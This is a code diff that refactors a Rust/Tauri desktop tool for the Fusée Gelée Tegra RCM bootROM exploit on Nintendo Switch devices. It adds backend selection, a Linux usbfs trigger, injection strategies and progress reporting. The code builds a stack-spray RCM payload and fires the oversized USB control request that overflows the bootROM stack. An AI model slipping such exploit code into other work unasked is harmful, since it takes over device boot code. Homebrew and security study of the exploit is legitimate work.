@@ -1,8 +1,52 @@
-use reqwest::blocking;
 use serde::{Deserialize, Serialize};
-use std::path::Path;
-use tauri::Manager;
-use tokio;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+use tauri::{Emitter, Manager};
+use tracing::{debug, error, field, info, info_span, warn, Span};
+
+pub mod archive;
+pub mod auto_inject;
+pub mod chip;
+pub mod download;
+pub mod emulator;
+mod error;
+pub mod history;
+pub mod intermezzo;
+pub mod library;
+pub mod logging;
+pub mod monitor;
+pub mod payload;
+pub mod progress;
+pub mod releases;
+pub mod relocator;
+pub mod report;
+pub mod sources;
+pub mod storage;
+pub mod strategy;
+mod transport;
+#[cfg(target_os = "linux")]
+mod usbfs;
+pub mod verify;
+pub mod wait;
+
+use archive::ArchiveKind;
+pub use chip::ChipInfo;
+use download::{DownloadError, DownloadOptions, DownloadProgress, DownloadState};
+pub use error::JoltError;
+use history::{HistoryEntry, InjectionHistory};
+pub use intermezzo::Intermezzo;
+use library::{LibraryEntry, Origin, PayloadLibrary};
+use logging::LogGuard;
+use monitor::DeviceRegistry;
+pub use progress::{ignore_progress, InjectionProgress, ProgressCallback};
+use report::{millis, PhaseTimings};
+pub use report::{InjectionReport, TriggerOutcome};
+use storage::Storage;
+pub use strategy::{Delivery, ExploitStrategy, StrategyRegistry};
+pub use transport::Transport;
+use verify::Verification;
+pub use wait::DeviceWait;
+use wait::WaitState;
 
 // Learn more about Tauri commands at https://tauri.app/develop/calling-rust/
 
@@ -10,15 +54,30 @@ use tokio;
 
 // The address where the RCM payload is placed.
 // This is fixed for most device.
-const RCM_PAYLOAD_ADDR: u32 = 0x40010000;
+pub const RCM_PAYLOAD_ADDR: u32 = 0x40010000;
 
 // The address where the user payload is expected to begin.
-const PAYLOAD_START_ADDR: u32 = 0x40010E40;
+pub const PAYLOAD_START_ADDR: u32 = 0x40010E40;
 
 // Specify the range of addresses where we should inject oct
 // payload address.
-const STACK_SPRAY_START: u32 = 0x40014E40;
-const STACK_SPRAY_END: u32 = 0x40017000;
+pub const STACK_SPRAY_START: u32 = 0x40014E40;
+pub const STACK_SPRAY_END: u32 = 0x40017000;
+
+// The length we announce in the RCM command: the most the bootROM will accept.
+pub const RCM_COMMAND_LENGTH: u32 = 0x30298;
+
+// The size of the RCM command header that precedes the loaded image.
+const RCM_HEADER_SIZE: usize = 680;
+
+// The largest payload build_payload can fit: the command is padded to a whole
+// number of 0x1000-byte requests (always adding at least one byte), and has to
+// stay within RCM_COMMAND_LENGTH.
+pub const MAX_PAYLOAD_SIZE: usize = (RCM_COMMAND_LENGTH as usize & !0xFFF)
+    - 1
+    - RCM_HEADER_SIZE
+    - (PAYLOAD_START_ADDR - RCM_PAYLOAD_ADDR) as usize
+    - (STACK_SPRAY_END - STACK_SPRAY_START) as usize;
 
 // USB constants
 const RCM_VID: u16 = 0x0955;
@@ -28,29 +87,94 @@ const RCM_PID: u16 = 0x7321;
 const STANDARD_REQUEST_DEVICE_TO_HOST_TO_ENDPOINT: u8 = 0x82;
 const GET_STATUS: u8 = 0x0;
 
+/// The different ways we know how to issue the oversized GET_STATUS request.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum BackendKind {
+    /// Simple vulnerability trigger for macOS: we simply ask libusb to issue
+    /// the broken control request, and it'll do it for us.
+    /// We also support platforms with a hacked libusb and FreeBSD.
+    Libusb,
+    /// Submit the control URB directly through usbfs, bypassing any splitting
+    /// or capping libusb and the kernel might do.
+    Linux,
+}
+
+impl BackendKind {
+    /// The backend for this OS, or for `system_override` (e.g. "linux" or "macos")
+    /// if given.
+    pub fn select(system_override: Option<&str>) -> Result<Self, JoltError> {
+        // Figure out the system we're running on, unless we've been told otherwise.
+        let system = system_override.unwrap_or(std::env::consts::OS);
+        let unsupported = || JoltError::UnsupportedPlatform {
+            system: system.to_string(),
+        };
+
+        let kind = Self::from_system(system).ok_or_else(unsupported)?;
+
+        // The usbfs backend can't do anything for us off Linux.
+        if kind == Self::Linux && !cfg!(target_os = "linux") {
+            return Err(unsupported());
+        }
+
+        Ok(kind)
+    }
+
+    fn from_system(system: &str) -> Option<Self> {
+        match system {
+            "Linux" | "linux" => Some(Self::Linux),
+            "Darwin" | "macos" | "libusbhax" | "FreeBSD" | "freebsd" | "Windows" | "windows" => {
+                Some(Self::Libusb)
+            }
+            _ => None,
+        }
+    }
+
+    pub fn name(&self) -> &'static str {
+        match self {
+            Self::Libusb => "libusb",
+            Self::Linux => "Linux",
+        }
+    }
+}
+
 /// Backend for handling USB operations with the RCM device.
-/// Simple vulnerability trigger for macOS: we simply ask libusb to issue
-/// the broken control request, and it'll do it for us.
-/// We also support platforms with a hacked libusb and FreeBSD.
 struct Backend {
-    _skip_checks: bool,
+    kind: BackendKind,
+    skip_checks: bool,
 }
 
 impl Backend {
-    fn new(_skip_checks: bool) -> Self {
-        Self { _skip_checks }
+    fn new(kind: BackendKind, skip_checks: bool) -> Self {
+        Self { kind, skip_checks }
+    }
+
+    fn backend_name(&self) -> &'static str {
+        self.kind.name()
     }
 
     fn print_warnings(&self) {
         // Print any warnings necessary for the given backend.
-        // Currently no warnings for our implementation
+        if self.kind == BackendKind::Linux {
+            warn!("On desktop Linux systems, we currently require an XHCI host controller. A good way to ensure you're likely using an XHCI backend is to plug your device into a blue 'USB 3' port.");
+        }
+    }
+
+    fn trigger_vulnerability<T: Transport>(
+        &self,
+        device: &T,
+        length: usize,
+    ) -> Result<TriggerOutcome, JoltError> {
+        match self.kind {
+            BackendKind::Libusb => self.trigger_vulnerability_libusb(device, length),
+            BackendKind::Linux => self.trigger_vulnerability_usbfs(device, length),
+        }
     }
 
-    fn trigger_vulnerability(
+    fn trigger_vulnerability_libusb<T: Transport>(
         &self,
-        device: &rusb::DeviceHandle<rusb::GlobalContext>,
+        device: &T,
         length: usize,
-    ) -> Result<(), rusb::Error> {
+    ) -> Result<TriggerOutcome, JoltError> {
         // Triggering the vulnerability is simplest on macOS; we simply issue the control request as-is.
         // Note: This will timeout when successful because the device crashes!
         let mut buffer = vec![0u8; length];
@@ -62,17 +186,67 @@ impl Backend {
             &mut buffer,
             std::time::Duration::from_millis(1000),
         ) {
-            Ok(_) => Ok(()), // This shouldn't normally happen with the vulnerability
-            Err(rusb::Error::Timeout) => Ok(()), // Timeout = success! Device crashed
-            Err(e) => Err(e), // Other errors are actual failures
+            Ok(_) => Ok(TriggerOutcome::Returned), // This shouldn't normally happen with the vulnerability
+            Err(rusb::Error::Timeout) => Ok(TriggerOutcome::TimedOut), // Timeout = success! Device crashed
+            Err(e) => Err(JoltError::TriggerFailed(e)), // Other errors are actual failures
         }
     }
 
-    fn read(
+    #[cfg(target_os = "linux")]
+    fn trigger_vulnerability_usbfs<T: Transport>(
         &self,
-        device: &rusb::DeviceHandle<rusb::GlobalContext>,
+        device: &T,
         length: usize,
-    ) -> Result<Vec<u8>, rusb::Error> {
+    ) -> Result<TriggerOutcome, JoltError> {
+        // Submit the control request directly using the usbfs SUBMITURB ioctl, which
+        // allows us to send our giant control request despite size limitations.
+        // We need a real device node to do this.
+        let (bus_number, address) = device
+            .bus_and_address()
+            .ok_or(JoltError::TriggerFailed(rusb::Error::NotSupported))?;
+        let length = u16::try_from(length)
+            .map_err(|_| JoltError::TriggerFailed(rusb::Error::InvalidParam))?;
+
+        // We only work for devices that are bound to a compatible HCD.
+        if !self.skip_checks {
+            if let Err(e) = usbfs::validate_environment(bus_number) {
+                error!(error = %e, "Can't trigger the vulnerability through usbfs");
+                return Err(JoltError::UnsupportedController(e));
+            }
+        }
+
+        usbfs::submit_control_request(
+            bus_number,
+            address,
+            STANDARD_REQUEST_DEVICE_TO_HOST_TO_ENDPOINT,
+            GET_STATUS,
+            0,
+            0,
+            length,
+        )
+        .map(|_| TriggerOutcome::Submitted)
+        .or_else(|e| match e.kind() {
+            // Timeout = success, same as with libusb.
+            std::io::ErrorKind::TimedOut => Ok(TriggerOutcome::TimedOut),
+            std::io::ErrorKind::NotFound => Err(JoltError::TriggerFailed(rusb::Error::NoDevice)),
+            std::io::ErrorKind::PermissionDenied => {
+                Err(JoltError::TriggerFailed(rusb::Error::Access))
+            }
+            _ => Err(JoltError::TriggerFailed(rusb::Error::Io)),
+        })
+    }
+
+    #[cfg(not(target_os = "linux"))]
+    fn trigger_vulnerability_usbfs<T: Transport>(
+        &self,
+        _device: &T,
+        _length: usize,
+    ) -> Result<TriggerOutcome, JoltError> {
+        // usbfs only exists on Linux.
+        Err(JoltError::TriggerFailed(rusb::Error::NotSupported))
+    }
+
+    fn read<T: Transport>(&self, device: &T, length: usize) -> Result<Vec<u8>, rusb::Error> {
         // Reads data from the RCM protocol endpoint.
         let mut buffer = vec![0u8; length];
         let bytes_read =
@@ -81,9 +255,9 @@ impl Backend {
         Ok(buffer)
     }
 
-    fn write_single_buffer(
+    fn write_single_buffer<T: Transport>(
         &self,
-        device: &rusb::DeviceHandle<rusb::GlobalContext>,
+        device: &T,
         data: &[u8],
     ) -> Result<usize, rusb::Error> {
         // Writes a single RCM buffer, which should be 0x1000 long.
@@ -96,17 +270,21 @@ impl Backend {
         &self,
         vid: Option<u16>,
         pid: Option<u16>,
+        bus_and_address: Option<(u8, u8)>,
     ) -> Result<rusb::Device<rusb::GlobalContext>, rusb::Error> {
         // Set and return the device to be used
         let vid = vid.unwrap_or(RCM_VID);
         let pid = pid.unwrap_or(RCM_PID);
 
-        // Find the device
+        // Find the device, at a particular spot on the bus if we've been told one.
         let device = rusb::devices()?
             .iter()
             .find(|device| {
+                let at_address = bus_and_address.is_none_or(|(bus, address)| {
+                    device.bus_number() == bus && device.address() == address
+                });
                 if let Ok(desc) = device.device_descriptor() {
-                    desc.vendor_id() == vid && desc.product_id() == pid
+                    at_address && desc.vendor_id() == vid && desc.product_id() == pid
                 } else {
                     false
                 }
@@ -117,24 +295,26 @@ impl Backend {
     }
 
     fn create_appropriate_backend(
-        _system_override: Option<&str>,
+        system_override: Option<&str>,
         skip_checks: bool,
-    ) -> Result<Self, String> {
+    ) -> Result<Self, JoltError> {
         // Creates a backend object appropriate for the current OS.
-        // For now, we support all platforms the same way
-        Ok(Self::new(skip_checks))
+        Ok(Self::new(
+            BackendKind::select(system_override)?,
+            skip_checks,
+        ))
     }
 }
 
 /// RCMHax manages the connection to the RCM device and handles the exploit.
-struct RCMHax {
+pub struct RCMHax<T: Transport = rusb::DeviceHandle<rusb::GlobalContext>> {
     backend: Backend,
-    device: rusb::DeviceHandle<rusb::GlobalContext>,
+    device: T,
     current_buffer: usize,
-    _total_written: usize,
+    buffers_written: usize,
 }
 
-impl RCMHax {
+impl<T: Transport> RCMHax<T> {
     // Default to the Nintendo Switch RCM VID and PID.
     const DEFAULT_VID: u16 = 0x0955;
     const DEFAULT_PID: u16 = 0x7321;
@@ -143,105 +323,22 @@ impl RCMHax {
     const COPY_BUFFER_ADDRESSES: [u32; 2] = [0x40005000, 0x40009000]; // The addresses of the DMA buffers we can trigger a copy _from_.
     const STACK_END: u32 = 0x40010000; // The address just after the end of the device's stack.
 
-    fn new(
-        wait_for_device: bool,
-        os_override: Option<&str>,
-        vid: Option<u16>,
-        pid: Option<u16>,
-        override_checks: bool,
-    ) -> Result<Self, String> {
-        // Set up our RCM hack connection.
-
-        // The first write into the bootROM touches the lowbuffer.
-        let current_buffer = 0;
-
-        // Keep track of the total amount written.
-        let _total_written = 0;
-
-        // Create a vulnerability backend for the given device.
-        let backend =
-            Backend::create_appropriate_backend(os_override, override_checks).map_err(|_| {
-                "No backend to trigger the vulnerability-- it's likely we don't support your OS!"
-            })?;
-
-        // Grab a connection to the USB device itself.
-        let device = Self::_find_device(&backend, vid, pid)?;
-
-        // If we don't have a device...
-        let device_handle = if device.is_none() {
-            // ... and we're allowed to wait for one, wait indefinitely for one to appear...
-            if wait_for_device {
-                println!("Waiting for a TegraRCM device to come online...");
-                loop {
-                    let found_device = Self::_find_device(&backend, vid, pid)?;
-                    if found_device.is_some() {
-                        break found_device.unwrap();
-                    }
-                    std::thread::sleep(std::time::Duration::from_millis(500));
-                }
-            } else {
-                return Err("No TegraRCM device found?".to_string());
-            }
-        } else {
-            device.unwrap()
-        };
-
-        // Print any use-related warnings.
-        backend.print_warnings();
-
-        // For RCM devices, we need to claim the interface to communicate
-        // Find the interface and claim it
-        let _device_descriptor = device_handle
-            .device()
-            .device_descriptor()
-            .map_err(|e| format!("Failed to get device descriptor: {}", e))?;
-        let config_descriptor = device_handle
-            .device()
-            .active_config_descriptor()
-            .map_err(|e| format!("Failed to get config descriptor: {}", e))?;
-
-        // Claim the first interface (typically interface 0 for RCM devices)
-        if let Some(interface) = config_descriptor.interfaces().next() {
-            if let Some(interface_desc) = interface.descriptors().next() {
-                let interface_number = interface_desc.interface_number();
-                device_handle
-                    .claim_interface(interface_number)
-                    .map_err(|e| {
-                        format!("Failed to claim interface {}: {}", interface_number, e)
-                    })?;
-                println!("Claimed interface {}", interface_number);
-            }
-        }
-
-        // Notify the user of which backend we're using.
-        //println!("Identified a {} system; setting up the appropriate backend.", backend.backend_name());
-
-        Ok(Self {
+    fn with_transport(backend: Backend, device: T) -> Self {
+        // Set up our RCM hack connection over an already-open transport.
+        Self {
             backend,
-            device: device_handle,
-            current_buffer,
-            _total_written,
-        })
+            device,
+            // The first write into the bootROM touches the lowbuffer.
+            current_buffer: 0,
+            // Keep track of how many buffers we've written.
+            buffers_written: 0,
+        }
     }
 
-    fn _find_device(
-        backend: &Backend,
-        vid: Option<u16>,
-        pid: Option<u16>,
-    ) -> Result<Option<rusb::DeviceHandle<rusb::GlobalContext>>, String> {
-        // Attempts to get a connection to the RCM device with the given VID and PID.
-        // Apply our default VID and PID if neither are provided...
-        let vid = vid.unwrap_or(Self::DEFAULT_VID);
-        let pid = pid.unwrap_or(Self::DEFAULT_PID);
-
-        // ... and use them to find a USB device.
-        match backend.find_device(Some(vid), Some(pid)) {
-            Ok(device) => match device.open() {
-                Ok(handle) => Ok(Some(handle)),
-                Err(_) => Ok(None),
-            },
-            Err(_) => Ok(None),
-        }
+    /// Wraps an already-open transport, triggering the vulnerability with a plain
+    /// control request through it.
+    pub fn from_transport(device: T) -> Self {
+        Self::with_transport(Backend::new(BackendKind::Libusb, false), device)
     }
 
     fn read(&self, length: usize) -> Result<Vec<u8>, rusb::Error> {
@@ -249,10 +346,11 @@ impl RCMHax {
         self.backend.read(&self.device, length)
     }
 
-    fn write(&mut self, data: &[u8]) -> Result<(), rusb::Error> {
+    fn write(&mut self, data: &[u8], progress: ProgressCallback) -> Result<(), rusb::Error> {
         // Writes data to the main RCM protocol endpoint.
         let mut remaining = data.len();
         let packet_size = 0x1000;
+        let buffers_total = data.len().div_ceil(packet_size);
 
         while remaining > 0 {
             let data_to_transmit = std::cmp::min(remaining, packet_size);
@@ -260,6 +358,12 @@ impl RCMHax {
             remaining -= data_to_transmit;
 
             self.write_single_buffer(chunk)?;
+            progress(InjectionProgress::Uploading {
+                buffers_written: buffers_total - remaining.div_ceil(packet_size),
+                buffers_total,
+                bytes_written: data.len() - remaining,
+                bytes_total: data.len(),
+            });
         }
         Ok(())
     }
@@ -270,6 +374,7 @@ impl RCMHax {
         // If it's not, send a ZLP.
 
         self._toggle_buffer();
+        self.buffers_written += 1;
         self.backend.write_single_buffer(&self.device, data)
     }
 
@@ -284,20 +389,30 @@ impl RCMHax {
         Self::COPY_BUFFER_ADDRESSES[self.current_buffer]
     }
 
+    /// Where the device is on the bus, if the transport knows.
+    pub fn bus_and_address(&self) -> Option<(u8, u8)> {
+        self.device.bus_and_address()
+    }
+
     fn read_device_id(&self) -> Result<Vec<u8>, rusb::Error> {
         // Reads the Device ID via RCM. Only valid at the start of the communication.
         self.read(16)
     }
 
-    fn switch_to_highbuf(&mut self) -> Result<(), rusb::Error> {
+    fn switch_to_highbuf(&mut self) -> Result<bool, rusb::Error> {
         // Switches to the higher RCM buffer, reducing the amount that needs to be copied.
+        // Returns whether we had to pad to get there.
         if self.get_current_buffer_address() != Self::COPY_BUFFER_ADDRESSES[1] {
             self.write_single_buffer(&[0u8; 0x1000])?;
+            return Ok(true);
         }
-        Ok(())
+        Ok(false)
     }
 
-    fn trigger_controlled_memcpy(&self, length: Option<usize>) -> Result<(), rusb::Error> {
+    fn trigger_controlled_memcpy(
+        &self,
+        length: Option<usize>,
+    ) -> Result<TriggerOutcome, JoltError> {
         // Triggers the RCM vulnerability, causing it to make a significantly-oversized memcpy.
         // Determine how much we'd need to transmit to smash the full stack.
         let length =
@@ -306,16 +421,127 @@ impl RCMHax {
     }
 }
 
-/// Payload construction utilities
-fn build_payload(target_payload: &[u8], intermezzo_path: &Path) -> Result<Vec<u8>, String> {
-    // Just use the path that was passed in
-    if !intermezzo_path.exists() {
-        return Err(format!("Could not find the intermezzo interposer at {:?}. Did you build it?", intermezzo_path));
+impl RCMHax {
+    /// Opens an RCM device and claims its interface, optionally waiting for one to
+    /// show up. `vid` and `pid` default to the Switch's; `bus_and_address` picks a
+    /// particular device when more than one is connected.
+    pub fn new(
+        wait_for_device: Option<&DeviceWait>,
+        os_override: Option<&str>,
+        vid: Option<u16>,
+        pid: Option<u16>,
+        bus_and_address: Option<(u8, u8)>,
+        override_checks: bool,
+        progress: ProgressCallback,
+    ) -> Result<Self, JoltError> {
+        // Set up our RCM hack connection.
+        progress(InjectionProgress::OpeningDevice);
+
+        // Create a vulnerability backend for the given device.
+        let backend = Backend::create_appropriate_backend(os_override, override_checks)?;
+
+        // Grab a connection to the USB device itself.
+        let device = Self::_find_device(&backend, vid, pid, bus_and_address)?;
+
+        // If we don't have a device...
+        let device_handle = match device {
+            Some(device) => device,
+            None => {
+                // ... and we're allowed to wait for one, wait for one to appear (until we
+                // run out of time or are told to stop)...
+                if let Some(wait) = wait_for_device {
+                    info!("Waiting for a TegraRCM device to come online");
+                    progress(InjectionProgress::WaitingForDevice {
+                        timeout_secs: wait.timeout().map(|timeout| timeout.as_secs()),
+                    });
+
+                    let started = Instant::now();
+                    loop {
+                        let found_device = Self::_find_device(&backend, vid, pid, bus_and_address)?;
+                        if let Some(found_device) = found_device {
+                            break found_device;
+                        }
+                        if wait.is_cancelled() {
+                            return Err(JoltError::WaitCancelled);
+                        }
+                        if let Some(timeout) = wait.timeout() {
+                            if started.elapsed() >= timeout {
+                                return Err(JoltError::WaitTimedOut { timeout });
+                            }
+                        }
+                        std::thread::sleep(DeviceWait::POLL_INTERVAL);
+                    }
+                } else {
+                    return Err(JoltError::DeviceNotFound);
+                }
+            }
+        };
+
+        // Print any use-related warnings.
+        backend.print_warnings();
+
+        // For RCM devices, we need to claim the interface to communicate
+        // Find the interface and claim it
+        let _device_descriptor = device_handle
+            .device()
+            .device_descriptor()
+            .map_err(JoltError::UsbUnavailable)?;
+        let config_descriptor = device_handle
+            .device()
+            .active_config_descriptor()
+            .map_err(JoltError::UsbUnavailable)?;
+
+        // Claim the first interface (typically interface 0 for RCM devices)
+        if let Some(interface) = config_descriptor.interfaces().next() {
+            if let Some(interface_desc) = interface.descriptors().next() {
+                let interface_number = interface_desc.interface_number();
+                progress(InjectionProgress::ClaimingInterface {
+                    interface: interface_number,
+                });
+                Transport::claim_interface(&device_handle, interface_number).map_err(|source| {
+                    JoltError::ClaimFailed {
+                        interface: interface_number,
+                        source,
+                    }
+                })?;
+                debug!(interface = interface_number, "Claimed interface");
+            }
+        }
+
+        // Notify the user of which backend we're using.
+        info!(backend = backend.backend_name(), "Set up the backend");
+
+        Ok(Self::with_transport(backend, device_handle))
     }
 
-    let intermezzo =
-        std::fs::read(intermezzo_path).map_err(|e| format!("Failed to read intermezzo: {}", e))?;
+    fn _find_device(
+        backend: &Backend,
+        vid: Option<u16>,
+        pid: Option<u16>,
+        bus_and_address: Option<(u8, u8)>,
+    ) -> Result<Option<rusb::DeviceHandle<rusb::GlobalContext>>, JoltError> {
+        // Attempts to get a connection to the RCM device with the given VID and PID.
+        // Apply our default VID and PID if neither are provided...
+        let vid = vid.unwrap_or(Self::DEFAULT_VID);
+        let pid = pid.unwrap_or(Self::DEFAULT_PID);
+
+        // ... and use them to find a USB device. A device that's there but that we
+        // can't open is worth reporting rather than treating as absent.
+        match backend.find_device(Some(vid), Some(pid), bus_and_address) {
+            Ok(device) => match device.open() {
+                Ok(handle) => Ok(Some(handle)),
+                Err(rusb::Error::NoDevice) | Err(rusb::Error::NotFound) => Ok(None),
+                Err(e @ rusb::Error::Access) => Err(JoltError::AccessDenied(e)),
+                Err(e) => Err(JoltError::UsbUnavailable(e)),
+            },
+            Err(rusb::Error::NoDevice) => Ok(None),
+            Err(e) => Err(JoltError::UsbUnavailable(e)),
+        }
+    }
+}
 
+/// Payload construction utilities
+pub fn build_payload(target_payload: &[u8], intermezzo: &Intermezzo) -> Result<Vec<u8>, JoltError> {
     let intermezzo_size = intermezzo.len();
 
     // Prefix the image with an RCM command, so it winds up loaded into memory
@@ -323,24 +549,31 @@ fn build_payload(target_payload: &[u8], intermezzo_path: &Path) -> Result<Vec<u8
     // Use the maximum length accepted by RCM, so we can transmit as much payload as
     // we want; we'll take over before we get to the end.
 
-    let length: u32 = 0x30298;
+    let length: u32 = RCM_COMMAND_LENGTH;
     let mut payload = length.to_le_bytes().to_vec();
 
     // pad out to 680 so the payload starts at the right address in IRAM
-    payload.extend(vec![0u8; 680 - payload.len()]);
+    payload.extend(vec![0u8; RCM_HEADER_SIZE - payload.len()]);
 
     // Populate from [RCM_PAYLOAD_ADDR, INTERMEZZO_LOCATION) with the payload address.
     // We'll use this data to smash the stack when we execute the vulnerable memcpy.
 
-    println!("Setting ourselves up to smash the stack...");
+    debug!("Setting ourselves up to smash the stack");
 
     // Include the Intermezzo binary in the command stream. This is our first-stage
     // payload, and it's responsible for relocating the final payload to 0x40010000.
 
-    payload.extend(&intermezzo);
+    payload.extend(intermezzo.bytes());
 
     // Pad the payload till the start of the user payload.
-    let padding_size = (PAYLOAD_START_ADDR - (RCM_PAYLOAD_ADDR + intermezzo_size as u32)) as usize;
+    let padding_size = intermezzo::MAX_INTERMEZZO_SIZE
+        .checked_sub(intermezzo_size)
+        .ok_or_else(|| {
+            JoltError::IntermezzoCorrupted(format!(
+                "The intermezzo is {} bytes, too large to fit before the payload",
+                intermezzo_size
+            ))
+        })?;
     payload.extend(vec![0u8; padding_size]);
 
     // Fit a collection of the payload before the stack spray...
@@ -368,96 +601,149 @@ fn build_payload(target_payload: &[u8], intermezzo_path: &Path) -> Result<Vec<u8
     // If it won't, error out.
     if payload.len() > length as usize {
         let size_over = payload.len() - length as usize;
-        return Err(format!(
-            "ERROR: Payload is too large to be submitted via RCM. ({} bytes larger than max).",
-            size_over
-        ));
+        return Err(JoltError::PayloadTooLarge {
+            bytes_over: size_over,
+        });
     }
 
     Ok(payload)
 }
 
-/// Main exploit function - equivalent to try_push in Python
-fn execute_fusee_gelee_exploit(
+/// Main exploit function - equivalent to try_push in Python. Delivers the payload
+/// with fusee-launcher's strategy.
+pub fn execute_fusee_gelee_exploit<T: Transport>(
+    switch: RCMHax<T>,
     target_payload_path: &str,
-    intermezzo_path: &str,
-) -> Result<String, String> {
-    // Read our arguments.
-
-    // Find our intermezzo relocator...
-    let intermezzo_path = Path::new(intermezzo_path);
-    if !intermezzo_path.exists() {
-        return Err("Could not find the intermezzo interposer. Did you build it?".to_string());
-    }
+    target_payload: &[u8],
+    intermezzo: &Intermezzo,
+    progress: ProgressCallback,
+) -> Result<InjectionReport, JoltError> {
+    execute_exploit(
+        switch,
+        target_payload_path,
+        target_payload,
+        intermezzo,
+        &[&strategy::FuseeLauncher],
+        progress,
+    )
+}
 
-    // Get a connection to our device.
-    let mut switch = RCMHax::new(false, None, Some(RCM_VID), Some(RCM_PID), false)?;
+/// Runs the exploit, trying each strategy in turn until one works. The device ID is
+/// read and the RCM command built once, up front; a strategy that fails leaves the
+/// device however it left it for the next one. With no strategies, the default is
+/// used. If they all fail, the first one's error is returned.
+///
+/// The payload (read from `target_payload_path`) should already have passed
+/// `payload::inspect(..).check()`: by the time this runs, the device ID is spent.
+pub fn execute_exploit<T: Transport>(
+    mut switch: RCMHax<T>,
+    target_payload_path: &str,
+    target_payload: &[u8],
+    intermezzo: &Intermezzo,
+    strategies: &[&dyn ExploitStrategy<T>],
+    progress: ProgressCallback,
+) -> Result<InjectionReport, JoltError> {
+    let started = Instant::now();
+    let mut timings = PhaseTimings::default();
 
     // Print the device's ID. Note that reading the device's ID is necessary to get it into
-    // the right state, but we'll make it optional since some devices might not support it
-    match switch.read_device_id() {
-        Ok(device_id) => println!("Found a Tegra with Device ID: {:?}", device_id),
-        Err(e) => {
-            println!(
-                "Warning: Could not read device ID (this may be normal): {}",
-                e
-            );
-            println!("Continuing with exploit anyway...");
-        }
-    }
-
-    // Read the target payload
-    let target_payload = std::fs::read(target_payload_path)
-        .map_err(|e| format!("Failed to read payload file: {}", e))?;
+    // the right state, but we'll make it optional since some devices might not support it.
+    // The bootROM only sends it once, so if something already read it this RCM
+    // session (auto-inject matching a rule, say) the device is past that and we use
+    // what it saw.
+    progress(InjectionProgress::ReadingDeviceId);
+    let phase = Instant::now();
+    let chip_info = match switch.bus_and_address().and_then(chip::recall) {
+        Some(chip_info) => Some(chip_info),
+        None => match switch
+            .read_device_id()
+            .map_err(|e| e.to_string())
+            .and_then(|device_id| ChipInfo::from_device_id(&device_id))
+        {
+            Ok(chip_info) => {
+                info!(uid = %chip_info.uid, "Found a Tegra");
+                if let Some(bus_and_address) = switch.bus_and_address() {
+                    chip::remember(bus_and_address, &chip_info);
+                }
+                Some(chip_info)
+            }
+            Err(e) => {
+                warn!(error = %e, "Couldn't read the device ID (this may be normal); continuing anyway");
+                None
+            }
+        },
+    };
+    let device_id_read_failed = chip_info.is_none();
+    timings.read_device_id_ms = millis(phase.elapsed());
 
     // Build the complete payload with intermezzo and stack spray
-    let payload = build_payload(&target_payload, intermezzo_path)?;
-
-    // Send the constructed payload, which contains the command, the stack smashing
-    // values, the Intermezzo relocation stub, and the final payload.
-    println!("Uploading payload...");
-    switch
-        .write(&payload)
-        .map_err(|e| format!("Failed to upload payload: {}", e))?;
-
-    // The RCM backend alternates between two different DMA buffers. Ensure we're
-    // about to DMA into the higher one, so we have less to copy during our attack.
-    switch
-        .switch_to_highbuf()
-        .map_err(|e| format!("Failed to switch to high buffer: {}", e))?;
-
-    // Smash the device's stack, triggering the vulnerability.
-    println!("Smashing the stack...");
-    let result = match switch.trigger_controlled_memcpy(None) {
-        Ok(_) => {
-            println!("✅ Exploit completed successfully!");
-            println!("🎉 The payload has been injected and the device has been rebooted.");
-            Ok("🎯 Payload injection successful! Check your Switch - it should be running the payload now!".to_string())
-        }
-        Err(rusb::Error::Timeout) => {
-            // Timeout during trigger = SUCCESS! The device crashed as expected
-            println!("✅ Exploit completed successfully (device timed out as expected)!");
-            println!("🎉 The payload has been injected and the device has crashed/rebooted.");
-            Ok("🎯 Payload injection successful! The Switch crashed as expected - check if your payload is running!".to_string())
-        }
-        Err(e) => {
-            // Other errors are actual failures
-            Err(format!("Exploit failed: {}", e))
+    progress(InjectionProgress::BuildingPayload);
+    let phase = Instant::now();
+    let payload = build_payload(target_payload, intermezzo)?;
+    timings.build_payload_ms = millis(phase.elapsed());
+
+    let default_strategy = strategy::FuseeLauncher;
+    let strategies = if strategies.is_empty() {
+        &[&default_strategy as &dyn ExploitStrategy<T>][..]
+    } else {
+        strategies
+    };
+
+    let mut first_error = None;
+    let mut delivered = None;
+    for strategy in strategies {
+        info!(strategy = strategy.id(), "Trying a strategy");
+        progress(InjectionProgress::TryingStrategy {
+            strategy: strategy.id().to_string(),
+        });
+        let delivery = Delivery {
+            switch: &mut switch,
+            stream: &payload,
+            timings: &mut timings,
+            progress,
+        };
+        match strategy.deliver(delivery) {
+            Ok(result) => {
+                delivered = Some((strategy.id(), result));
+                break;
+            }
+            Err(e) => {
+                warn!(strategy = strategy.id(), code = e.code(), error = %e, "Strategy failed");
+                first_error.get_or_insert(e);
+            }
         }
+    }
+    let Some((strategy_id, delivered)) = delivered else {
+        return Err(first_error.expect("at least one strategy was tried"));
     };
 
     // Try to release the interface
     // Note: We can't easily get the interface number here, so we'll skip this for now
     // The interface will be released when the device handle is dropped
 
-    result
+    timings.total_ms = millis(started.elapsed());
+
+    Ok(InjectionReport {
+        chip_info,
+        device_id_read_failed,
+        payload_path: target_payload_path.to_string(),
+        payload_sha256: intermezzo::sha256_hex(target_payload),
+        payload_size: target_payload.len(),
+        rcm_stream_size: payload.len(),
+        buffers_written: switch.buffers_written,
+        padded_to_high_buffer: delivered.padded_to_high_buffer,
+        trigger: delivered.trigger,
+        strategy: strategy_id.to_string(),
+        timings,
+        verification: Verification::not_watched(),
+    })
 }
 #[tauri::command]
 fn greet(name: &str) -> String {
     format!("Hello, {}! You've been greeted from Rust!", name)
 }
 
-#[derive(Serialize, Deserialize)]
+#[derive(Clone, Debug, Serialize, Deserialize)]
 pub struct DeviceInfo {
     pub vendor_id: u16,
     pub product_id: u16,
@@ -466,86 +752,51 @@ pub struct DeviceInfo {
     pub serial_number: Option<String>,
 }
 
-#[derive(Serialize, Deserialize)]
+#[derive(Clone, Debug, Serialize, Deserialize)]
 pub struct RcmStatus {
     pub device_connected: bool,
     pub device_info: Option<DeviceInfo>,
     pub rcm_detected: bool,
     pub switch_connected_not_rcm: bool,
+    /// The chip, once something has read the device ID. Checking the status never
+    /// reads it, since the bootROM only sends it once.
+    pub chip_info: Option<ChipInfo>,
+    /// Whether reading the device ID of the device in RCM failed, or `None` until
+    /// something has tried (and when nothing is in RCM).
+    pub chip_id_read_failed: Option<bool>,
 }
 
-// Nintendo Switch RCM constants
-const NINTENDO_VENDOR_ID: u16 = 0x0955;
